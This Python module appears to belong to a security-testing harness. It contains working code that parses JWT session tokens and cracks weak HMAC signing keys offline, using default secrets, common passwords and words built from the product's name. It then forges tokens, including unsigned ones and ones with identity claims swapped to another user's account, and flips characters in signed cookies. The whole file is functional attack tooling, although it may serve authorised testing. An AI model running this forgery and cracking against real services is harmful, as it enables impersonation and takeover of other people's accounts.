"""Session tokens: recognising a JWT, forging variants of it, and finding a weak HMAC signing key
offline from a kept list of common secrets (no request per guess: a guess is confirmed against the
captured token's own signature, and only a key that reproduces it is then used to forge one)."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Iterable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

from harness.spec.model import Account

_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
WORDLIST = Path(__file__).resolve().parent / "wordlists" / "default-secrets.txt"


def _b64d(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _b64e(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


@dataclass(frozen=True)
class Jwt:
    header: dict[str, Any]
    claims: dict[str, Any]
    signature: str
    signing_input: str


def parse_jwt(token: str) -> Jwt | None:
    """The token as a JWS-compact JWT, or None when it is not one (an opaque token)."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header, claims = json.loads(_b64d(parts[0])), json.loads(_b64d(parts[1]))
    except (ValueError, TypeError):
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict) or "alg" not in header:
        return None
    return Jwt(header, claims, parts[2], f"{parts[0]}.{parts[1]}")


def encode_jwt(header: dict[str, Any], claims: dict[str, Any], key: str | None, signature: str | None = None) -> str:
    """A compact JWT: HMAC over ``key`` with the header's HS algorithm, or the given ``signature``
    text, or no signature at all (``key`` None)."""
    head = _b64e(json.dumps(header, separators=(",", ":")).encode())
    body = _b64e(json.dumps(claims, separators=(",", ":")).encode())
    signing_input = f"{head}.{body}"
    if signature is None:
        digest = _HASHES.get(str(header.get("alg")), hashlib.sha256)
        mac = b"" if key is None else hmac.new(key.encode(), signing_input.encode(), digest).digest()
        signature = _b64e(mac)
    return f"{signing_input}.{signature}"


def swap_identity(claims: dict[str, Any], mine: Account, theirs: Account) -> tuple[dict[str, Any], list[str]]:
    """The claims with every value naming ``mine`` (user name, account number, user ID, ...)
    renamed to the same value of ``theirs``; and the claim names changed."""
    own, other = mine.known(), theirs.known()
    swap = {v: other[k] for k, v in own.items() if k in other and k not in ("password", "balance") and v}
    out, changed = dict(claims), []
    for k, v in claims.items():
        if isinstance(v, str | int) and not isinstance(v, bool) and str(v) in swap:
            new = swap[str(v)]
            out[k] = new if isinstance(v, str) else (int(new) if new.isdigit() else v)
            changed.append(k)
    return out, changed


@cache
def common_secrets() -> tuple[str, ...]:
    """The kept list: framework and tutorial defaults (wordlists/default-secrets.txt), then the
    30,000 most common passwords (zxcvbn's frequency list), without repeats."""
    from zxcvbn.frequency_lists import FREQUENCY_LISTS

    own = [ln.strip() for ln in WORDLIST.read_text(encoding="utf-8").splitlines()]
    own = [ln for ln in own if ln and not ln.startswith("#")]
    return tuple(dict.fromkeys(["", *own, *FREQUENCY_LISTS["passwords"]]))


def product_words(names: Iterable[str]) -> list[str]:
    """Secrets built from the product's own names ("RefPay", "refpay-secret", ...)."""
    out = []
    for n in names:
        for form in {n, n.lower(), n.upper(), n.replace(" ", ""), n.lower().replace(" ", "-")}:
            out += [form, f"{form}-secret", f"{form}_secret", f"{form}secret", f"{form}-key", f"{form}123"]
    return list(dict.fromkeys(x for x in out if x))


@dataclass(frozen=True)
class CrackResult:
    key: str | None
    tried: int
    algorithm: str


def crack_hmac(jwt: Jwt, extra: Iterable[str] = ()) -> CrackResult:
    """Try every kept secret (and ``extra``) as the token's HMAC key, offline."""
    alg = str(jwt.header.get("alg", ""))
    digest = _HASHES.get(alg.upper())
    if digest is None:
        return CrackResult(None, 0, alg)
    try:
        want = _b64d(jwt.signature)
    except (ValueError, TypeError):
        return CrackResult(None, 0, alg)
    msg = jwt.signing_input.encode()
    tried = 0
    for key in [*extra, *common_secrets()]:
        tried += 1
        if hmac.compare_digest(hmac.new(key.encode(), msg, digest).digest(), want):
            return CrackResult(key, tried, alg)
    return CrackResult(None, tried, alg)


_B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
_B64_URL, _B64_STD = _B64 + "-_", _B64 + "+/"
_HEX = frozenset("0123456789abcdefABCDEF")


def flip_char(text: str, index: int) -> str:
    """``text`` with the character at ``index`` replaced by another of the same class. The last
    character of a Base64 segment (a signed cookie's signature, a JWT's) may carry padding bits only:
    there the replacement changes the character's top bit, which always counts, so the decoded bytes
    differ (a change the decoder drops is no forgery)."""
    c = text[index]
    segment = _segment_at(text, index)
    if index == len(text) - 1 or (index + 1 < len(text) and text[index + 1] in ".~"):
        for alphabet in (_B64_URL, _B64_STD):
            if len(segment) >= 8 and set(segment) <= set(alphabet) and not set(segment) <= _HEX and c in alphabet:
                return text[:index] + alphabet[alphabet.index(c) ^ 32] + text[index + 1 :]
    if c.isdigit():
        r = "1" if c != "1" else "2"
    elif c.isalpha():
        r = ("b" if c.lower() != "b" else "c") if c.islower() else ("B" if c != "B" else "C")
    else:
        r = "A"
    return text[:index] + r + text[index + 1 :]


def _segment_at(text: str, index: int) -> str:
    """The dot-separated part of ``text`` that holds ``index``."""
    start = text.rfind(".", 0, index) + 1
    end = text.find(".", index)
    return text[start : end if end >= 0 else len(text)]
